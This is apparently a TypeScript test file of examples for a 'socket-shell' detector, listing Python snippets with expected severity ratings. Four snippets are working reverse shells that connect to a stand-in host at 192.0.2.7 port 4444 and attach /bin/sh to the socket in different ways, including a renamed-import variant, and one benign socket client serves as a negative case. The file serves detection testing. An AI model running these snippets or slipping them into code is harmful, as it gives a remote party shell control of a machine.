// Examples of socket-shell.
import type { Example } from "../../core/detector.ts";
import { python } from "./testing/program.ts";

const CONNECT = [
  "import os, pty, socket, subprocess",
  "s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)",
  's.connect(("192.0.2.7", 4444))',
];
const SHELL = ["/bin", "sh"].join("/");

export const examples: readonly Example[] = [
  python(
    "Descriptors of a socket in the place of the standard ones",
    ["5 critical"],
    ...CONNECT,
    "for n in range(3):",
    "    os.dup2(s.fileno(), n)",
    `subprocess.call(["${SHELL}"])`,
  ),
  python("A pseudo-terminal after a connection", ["4 critical"], ...CONNECT, `pty.spawn("${SHELL}")`),
  python(
    "A process with a socket as its input",
    ["4 critical"],
    ...CONNECT,
    `subprocess.Popen(["${SHELL}"], stdin=s, stdout=s, stderr=s)`,
  ),
  python(
    "The same under other names",
    ["4 critical"],
    "from socket import create_connection as dial",
    "from subprocess import Popen as start",
    'peer = dial(("192.0.2.7", 4444))',
    `start(["${SHELL}"], stdin=peer.fileno(), stdout=peer.fileno())`,
  ),
  python(
    "A client that speaks a protocol",
    [],
    ...CONNECT,
    's.sendall(b"PING")',
    "print(s.recv(100))",
    'subprocess.run(["ls"], stdout=subprocess.PIPE)',
  ),
];
